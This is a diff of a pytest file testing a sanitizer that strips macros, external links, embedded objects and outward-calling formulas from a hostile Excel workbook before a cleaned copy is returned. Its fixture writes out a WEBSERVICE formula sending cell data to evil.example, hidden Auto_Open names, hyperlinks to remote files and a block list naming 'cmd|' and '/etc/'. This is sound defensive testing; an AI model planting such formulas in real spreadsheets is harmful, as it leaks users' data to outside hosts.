@@ -1,9 +1,11 @@
 """A returned copy of a hostile workbook: nothing in it runs or calls out, and what only calculates stays."""
 
+import contextlib
 import io
 import re
 import zipfile
-from types import SimpleNamespace
+from pathlib import Path
+from xml.etree import ElementTree
 
 import openpyxl
 import pytest
@@ -14,7 +16,10 @@ from openpyxl.worksheet.datavalidation import DataValidation
 from openpyxl.worksheet.formula import ArrayFormula
 from openpyxl.worksheet.hyperlink import Hyperlink
 
-from checks import active_content, returned_copies
+from checks import active_content, ledger_workbook, returned_copies
+from checks.foreign_rows import Foreign
+from warehouse.storage import limited_process
+from warehouse.storage.limited_process import LimitedProcess
 
 PARTS = {
     "xl/vbaProject.bin": b"macro",
@@ -23,6 +28,7 @@ PARTS = {
     "xl/embeddings/oleObject1.bin": b"ole",
     "xl/activeX/activeX1.xml": b"<ax/>",
     "customUI/customUI14.xml": b"<customUI/>",
+    "docProps/custom.xml": "",
 }
 OUTWARD = (
     "=[1]走访!A1",
@@ -46,9 +52,24 @@ OUTWARD = (
 INWARD = (
     '=IF(B2="[1]http://a|b!","是","否")',
     "=SUM(B2:B9)",
-    "='走 访'!B2*2",
-    "=_xlfn.XLOOKUP(B2,B2:B9,B2:B9)",
+    "=$B$2*2-COUNTIF(B:B,1)",
     '=TEXT(TODAY(),"yyyy-mm-dd")',
+)
+CALLS = 'WEBSERVICE("http://evil.example/?"&amp;ENCODEURL($A$2))'
+# What a workbook may hold in a sheet besides its cells; each calls out or tells who wrote it.
+RULES = (
+    f'<conditionalFormatting sqref="A1:A9"><cfRule type="colorScale" priority="1"><colorScale><cfvo type="formula" val=\'{CALLS}\'/>'
+    '<cfvo type="max"/><color rgb="FFF8696B"/><color rgb="FF63BE7B"/></colorScale></cfRule></conditionalFormatting>'
+    '<conditionalFormatting sqref="B1:B9"><cfRule type="dataBar" priority="2"><dataBar><cfvo type="formula" val="[1]S!A1"/>'
+    '<cfvo type="max"/><color rgb="FF638EC6"/></dataBar></cfRule></conditionalFormatting>'
+    '<conditionalFormatting sqref="C1:C9"><cfRule type="iconSet" priority="3"><iconSet><cfvo type="percent" val="0"/>'
+    '<cfvo type="formula" val="[1]S!A1"/><cfvo type="percent" val="67"/></iconSet></cfRule></conditionalFormatting>'
+)
+NAMES = '<definedName name="_xlnm.Auto_Open" hidden="1">\'走 访\'!$A$1</definedName>'
+CUSTOM = (
+    '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"'
+    ' xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
+    '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="谁"><vt:lpwstr>张甲乙</vt:lpwstr></property></Properties>'
 )
 
 
@@ -64,6 +85,9 @@ def hostile() -> bytes:
     sheet["C2"] = ArrayFormula("C2:C3", "=WEBSERVICE(B2:B3)")
     sheet["D2"], sheet["D3"] = "网页", "本表"
     sheet["D2"].hyperlink, sheet["D3"].hyperlink = "http://evil.example/link", Hyperlink("D3", location="'走 访'!A1")
+    sheet["D4"] = "别处"
+    sheet["D4"].hyperlink = Hyperlink("D4", location="'[http://evil.example/x.xlsx]S'!A1")
+    book.properties.creator = book.properties.lastModifiedBy = book.properties.title = "张甲乙"
     for formula in ("=[1]走访!$A:$A", "=$B$2:$B$9"):
         rule = DataValidation(type="list", formula1=formula)
         rule.add("E2")
@@ -93,55 +117,125 @@ def with_parts(content: bytes) -> bytes:
                 )
             if name == "xl/worksheets/sheet1.xml":  # what Excel calculated last, beside the first formula
                 body = re.sub(r"(<c r=\"A2\"[^>]*>)<f>(.*?)</f><v></v>", r"\1<f>\2</f><v>42</v>", body)
+                body = body.replace("<conditionalFormatting", RULES + "<conditionalFormatting", 1)
+            if name == "xl/workbook.xml":
+                body = body.replace("</definedNames>", NAMES + "</definedNames>")
             new.writestr(name, body)
         for name, body in PARTS.items():
-            new.writestr(name, body)
+            new.writestr(name, body or CUSTOM)
     return kept.getvalue()
 
 
 @pytest.fixture(scope="module")
 def copy():
     """The returned copy of the hostile workbook."""
-    answers = [[{"sealed": b"", "file": "柳溪村走访.xlsm"}], [], []]
-    build = SimpleNamespace(rows=lambda *_asked: answers.pop(0))
-    return returned_copies.copy(build, SimpleNamespace(unseal=lambda *_sealed: hostile()), "0" * 16)
+    return returned_copies.copy(original(hostile())).content
+
+
+def original(content, **more):
+    """A file as it was handed in."""
+    return returned_copies.Original("0" * 16, "柳溪村走访.xlsm", content, [], frozenset(), "zh_CN", **more)
+
+
+# All that a returned copy may be made of. What is not named here is not in it.
+PARTS_OF_A_COPY = (
+    r"\[Content_Types\]\.xml|_rels/\.rels|docProps/(app|core)\.xml|xl/(workbook|styles|sharedStrings)\.xml|xl/theme/theme1\.xml"
+)
+PARTS_OF_A_COPY += r"|xl/_rels/workbook\.xml\.rels|xl/worksheets/sheet\d+\.xml|xl/worksheets/_rels/sheet\d+\.xml\.rels"
+PARTS_OF_A_COPY += r"|xl/comments/comment\d+\.xml|xl/drawings/commentsDrawing\d+\.vml"
+ELEMENTS = {
+    "sheet": "worksheet sheetPr outlinePr pageSetUpPr dimension sheetViews sheetView pane selection sheetFormatPr cols col sheetData row c f v is t"
+    " r rPr mergeCells mergeCell dataValidations dataValidation formula1 hyperlinks hyperlink pageMargins pageSetup legacyDrawing",
+    "workbook": "workbook workbookPr workbookProtection bookViews workbookView sheets sheet definedNames definedName calcPr",
+    "core": "coreProperties created modified",
+    "app": "Properties Application DocSecurity ScaleCrop SharedDoc HyperlinksChanged AppVersion",
+    "comment": "comments authors author commentList comment text t r rPr",
+}
+ATTRIBUTES = {
+    "sheet": "r s t ref sqref type allowBlank showErrorMessage showInputMessage showDropDown location display id min max width customWidth"
+    " hidden ht customHeight xSplit ySplit topLeftCell activePane state activeCell pane workbookViewId tabSelected baseColWidth"
+    " defaultRowHeight summaryBelow summaryRight fitToPage orientation paperSize fitToHeight left right top bottom header footer count"
+    " spans style zeroHeight",
+    "workbook": "name sheetId state id localSheetId calcId fullCalcOnLoad minimized showHorizontalScroll showSheetTabs showVerticalScroll"
+    " tabRatio visibility firstSheet activeTab autoFilterDateGrouping",
+    "core": "type",
+    "app": "",
+    "comment": "ref authorId shapeId space count val",
+}
+
+
+def parsed(content):
+    """The XML parts of a package, by name."""
+    package = zipfile.ZipFile(io.BytesIO(content))
+    return {name: ElementTree.fromstring(package.read(name)) for name in package.namelist()}  # noqa: S314 — written by ourselves
+
+
+def test_a_copy_is_made_of_known_parts_elements_and_attributes_alone(copy):
+    for name, root in parsed(copy).items():
+        assert re.fullmatch(PARTS_OF_A_COPY, name), name
+        kind = next((kind for kind in ELEMENTS if Path(name).stem.startswith(kind)), None)
+        if kind is None or name.endswith(".rels"):
+            continue
+        plain = [re.sub(r"\{.*\}", "", element.tag) for element in root.iter()]
+        assert {*plain} <= {*ELEMENTS[kind].split()}, name
+        names = {re.sub(r"\{.*\}", "", attribute) for element in root.iter() for attribute in element.attrib}
+        assert names <= {*ATTRIBUTES[kind].split()}, name
+
+
+def test_relations_lead_to_parts_of_the_copy_alone(copy):
+    targets = [
+        (element.get("TargetMode"), element.get("Target"))
+        for name, root in parsed(copy).items()
+        if name.endswith(".rels")
+        for element in root
+    ]
+    assert targets
+    assert [target for target in targets if target[0] or re.search(r":|\\|\.\.", target[1])] == []
 
 
 def test_no_macro_object_connection_or_link_to_elsewhere_is_left_in_the_package(copy):
     package = zipfile.ZipFile(io.BytesIO(copy))
     parts = {name: package.read(name).decode("utf-8", "replace") for name in package.namelist()}
-    assert [name for name in parts if re.search(r"vba|external|embed|activeX|custom|connection|ctrl|pivot", name)] == []
-    for sign in ("evil.example", "External", "macroEnabled", "vbaProject", "[1]走访", "WEBSERVICE", "cmd|", "/etc/", "取数</", "EXEC"):
+    signs = "evil.example External macroEnabled vbaProject [1]走访 WEBSERVICE cmd| /etc/ 取数</ EXEC [1]S Auto_Open 张甲乙 openpyxl cfvo".split()
+    for sign in signs:
         assert [name for name, body in parts.items() if sign in body] == [], sign
 
 
-def test_formulas_that_calculate_within_the_workbook_stay_and_others_give_way_to_their_last_value(copy):
+def test_formulas_that_calculate_within_their_sheet_stay_and_others_give_way_to_their_last_value(copy):
     book = openpyxl.load_workbook(io.BytesIO(copy))
     sheet = book["Sheet"]
     assert [sheet.cell(row, 1).value for row in range(2, 2 + len(OUTWARD))] == [42] + [None] * (len(OUTWARD) - 1)
     assert [sheet.cell(row, 1).value for row in range(2 + len(OUTWARD), 2 + len(OUTWARD) + len(INWARD))] == list(INWARD)
-    assert (sheet["C2"].value, sheet["D2"].value, sheet["D2"].hyperlink, sheet["D3"].hyperlink.location) == (
-        None,
-        "网页",
-        None,
-        "'走 访'!A1",
+    assert (sheet["C2"].value, sheet["D2"].value, sheet["D2"].hyperlink, sheet["D3"].hyperlink) == (None, "网页", None, None)
+    assert (list(book.defined_names), sheet.data_validations.dataValidation, list(sheet.conditional_formatting), sheet._charts) == (
+        [],
+        [],
+        [],
+        [],
     )
-    assert list(book.defined_names) == ["本表"]
-    assert [rule.formula1 for rule in sheet.data_validations.dataValidation] == ["=$B$2:$B$9"]
-    assert [rule.formula for area in sheet.conditional_formatting for rule in area.rules] == [["$B$2:$B$9"]]
-    assert sheet._charts == []
+
+
+def test_a_list_of_words_to_choose_from_stays():
+    book, kept = openpyxl.Workbook(), io.BytesIO()
+    for formula in ('"男,女"', '"=1,2"', "=B1:B2"):
+        rule = DataValidation(type="list", formula1=formula)
+        rule.add("A1:A9")
+        book.active.add_data_validation(rule)
+    book.save(kept)
+    copy = ledger_workbook.open_workbook(kept.getvalue()).book
+    assert [(rule.formula1, str(rule.sqref)) for rule in copy.active.data_validations.dataValidation] == [('"男,女"', "A1:A9")]
 
 
 def test_the_list_says_what_was_left_out(copy):
     told = openpyxl.load_workbook(io.BytesIO(copy)).worksheets[0]["A2"].value
-    assert all(word in told for word in ("没有放", "宏", "引用外部文件或网络", "嵌入的对象"))
+    assert all(word in told for word in ("没有放", "宏", "引用别处", "嵌入的对象"))
 
 
 def test_of_an_ordinary_workbook_nothing_is_said_to_be_left_out():
     book, kept = openpyxl.Workbook(), io.BytesIO()
     book.active.append(["姓名", "=1+2"])
     book.save(kept)
-    assert active_content.remove_active_content(book, kept.getvalue()) == []
+    assert ledger_workbook.open_workbook(kept.getvalue()).removed == set()
 
 
 def test_a_text_that_looks_like_a_formula_stays_a_text_when_it_was_a_formulas_last_value():
@@ -152,11 +246,49 @@ def test_a_text_that_looks_like_a_formula_stays_a_text_when_it_was_a_formulas_la
         for name in old.namelist():
             body = old.read(name).decode()
             new.writestr(name, re.sub(r'<c r="A1"(.*?)><f>.*?</c>', r'<c r="A1"\1 t="str"><f>[1]甲!A1</f><v>=1+1</v></c>', body))
-    active_content.remove_active_content(book, last.getvalue())
-    assert (book.active["A1"].value, book.active["A1"].data_type) == ("=1+1", "s")
+    cell = ledger_workbook.open_workbook(last.getvalue()).book.active["A1"]
+    assert (cell.value, cell.data_type) == ("=1+1", "s")
 
 
-def test_macros_of_an_old_workbook_are_told_of_and_not_copied():
-    assert active_content.remove_active_content(openpyxl.Workbook(), b"\xd0\xcf\x11\xe0" + "_VBA_PROJECT_CUR".encode("utf-16-le")) == [
-        active_content.MACROS
-    ]
+def test_macros_of_an_old_workbook_are_told_of():
+    assert active_content.parts(b"\xd0\xcf\x11\xe0" + "_VBA_PROJECT_CUR".encode("utf-16-le")) == {active_content.MACROS}
+
+
+def test_a_small_file_that_grows_costs_its_own_copy_alone():
+    book, kept = openpyxl.Workbook(), io.BytesIO()
+    book.active["A1"] = "姓名"
+    book.save(kept)
+    with zipfile.ZipFile(kept) as old, zipfile.ZipFile(grown := io.BytesIO(), "w") as new:
+        for name in old.namelist():
+            body = old.read(name).decode()
+            new.writestr(
+                name, body.replace("</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')
+            )
+    process = LimitedProcess(returned_copies._answer, memory=200 * 2**20)
+    with contextlib.closing(process):
+        with pytest.raises(limited_process.Exceeded):
+            process.ask(original(grown.getvalue()), 6.0)
+        assert process.ask(original(kept.getvalue()), 30.0).content
+
+
+FOREIGN = Foreign(frozenset(["石桥村"]), frozenset(["65990120120403142X"]), frozenset(["李丙", "王丁"]))
+
+
+@pytest.mark.parametrize(
+    ("cells", "state", "is_foreign"),
+    [
+        (["65990120120403142X"], "visible", True),  # in a sheet that was read too
+        (["李丙", "王丁"], "visible", False),
+        (["石桥村"], "visible", False),  # in a note, perhaps
+    ],
+)
+@pytest.mark.parametrize("is_read", [True, False])
+def test_a_child_of_another_village_is_told_by_its_number_and_where_nobody_read_by_names_or_the_village(cells, state, is_foreign, is_read):
+    book, kept = openpyxl.Workbook(), io.BytesIO()
+    book.active.title = "汇总"
+    book.active.sheet_state = state
+    book.create_sheet("别的")
+    book.active.append(cells)
+    book.save(kept)
+    source = original(kept.getvalue(), foreign=FOREIGN)._replace(read_sheets=frozenset(["汇总"] if is_read else []))
+    assert returned_copies.copy(source).is_foreign == (is_foreign or not is_read)
